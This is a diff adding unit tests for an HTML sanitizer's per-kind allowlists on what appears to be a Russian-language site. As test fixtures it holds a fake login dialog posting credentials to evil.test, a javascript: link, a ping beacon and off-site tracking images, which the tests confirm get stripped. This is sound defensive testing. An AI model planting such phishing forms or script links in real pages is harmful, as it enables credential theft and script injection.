@@ -112,6 +112,85 @@ describe('sanitizer service', () => {
   });
 });
 
+const html = async (dirty: string, kind: 'reader' | 'page') => {
+  const box = document.createElement('div');
+  box.append((await loadSanitizer()).toFragment(dirty, kind));
+  return box;
+};
+
+describe('sanitizer allowlists per kind (issue 13)', () => {
+  it('the fake-login attack of issue 13 leaves text only', async () => {
+    const box = await html(
+      '<button command="show-modal" commandfor="d"><img width="4000" height="4000" src="data:image/svg+xml,x"></button>' +
+        '<dialog id="d" open><h1>Сессия истекла</h1><form action="https://evil.test/login"><input name="email"><button>Войти</button></form></dialog>',
+      'reader',
+    );
+    expect(box.querySelector('button, dialog, form, input, [command], [commandfor]')).to.equal(
+      null,
+    );
+    expect(box.textContent).not.to.include('Сессия истекла');
+    const img = box.querySelector('img');
+    expect(img?.hasAttribute('src')).to.equal(false);
+    expect(img?.hasAttribute('width')).to.equal(false);
+  });
+
+  it('reader keeps formatting and the comment contract; drops borrowed classes and popovers', async () => {
+    const box = await html(
+      '<article class="biz-comment live" id="comment-5" data-comment-id="5" data-timestamp="1">' +
+        '<div class="biz-comment__message"><p class="to-top" popover data-x="1">Текст <b>жирный</b> <code>x</code></p></div></article>',
+      'reader',
+    );
+    const article = box.querySelector('article')!;
+    expect(article.className).to.equal('biz-comment');
+    expect(article.id).to.equal('user-content-comment-5');
+    expect(article.dataset.commentId).to.equal('5');
+    const p = box.querySelector('p')!;
+    expect(
+      p.hasAttribute('class') || p.hasAttribute('popover') || p.hasAttribute('data-x'),
+    ).to.equal(false);
+    expect(box.querySelector('b')!.textContent).to.equal('жирный');
+  });
+
+  it('reader links: rel ugc nofollow, target only _blank, external marked', async () => {
+    const box = await html(
+      '<a href="https://evil.test/" target="_blank" ping="https://evil.test/p">вне</a>' +
+        '<a href="/article/1" target="x">свой</a><a href="javascript:alert(1)">js</a>',
+      'reader',
+    );
+    const [ext, own, js] = Array.from(box.querySelectorAll('a'));
+    expect(ext!.getAttribute('rel')).to.equal('ugc nofollow noopener noreferrer');
+    expect(ext!.getAttribute('target')).to.equal('_blank');
+    expect(ext!.hasAttribute('ping')).to.equal(false);
+    expect(ext!.querySelector('.biz-html__external')!.textContent).to.equal(' (внешняя ссылка)');
+    expect(own!.getAttribute('href')).to.equal('/article/1');
+    expect(own!.hasAttribute('target')).to.equal(false);
+    expect(own!.querySelector('.biz-html__external')).to.equal(null);
+    expect(js!.hasAttribute('href')).to.equal(false);
+  });
+
+  it('page keeps headings, figures, time and site images; drops images from other hosts', async () => {
+    const box = await html(
+      '<article class="search-result"><h3>Заголовок</h3><figure><picture>' +
+        '<source srcset="https://evil.test/a.webp"><img src="/a.jpg" alt="a"></picture>' +
+        '<figcaption>Подпись</figcaption></figure><time datetime="2025-01-01">1 января</time>' +
+        '<img src="https://evil.test/pixel.gif"></article>',
+      'page',
+    );
+    expect(box.querySelector('h3, figure, figcaption, time, picture')).not.to.equal(null);
+    expect(box.querySelector('article')!.className).to.equal('search-result');
+    expect(box.querySelector('source')!.hasAttribute('srcset')).to.equal(false);
+    const [site, pixel] = Array.from(box.querySelectorAll('img'));
+    expect(site!.getAttribute('src')).to.equal('/a.jpg');
+    expect(pixel!.hasAttribute('src')).to.equal(false);
+  });
+
+  it('reader drops page-only tags: headings and figures keep their text only', async () => {
+    const box = await html('<h2>Заголовок</h2><figure>Рис.</figure>', 'reader');
+    expect(box.querySelector('h2, figure')).to.equal(null);
+    expect(box.textContent).to.equal('ЗаголовокРис.');
+  });
+});
+
 describe('visitor token with the real FingerprintJS', () => {
   it('computes a hash without any request leaving for another host', async () => {
     localStorage.clear();
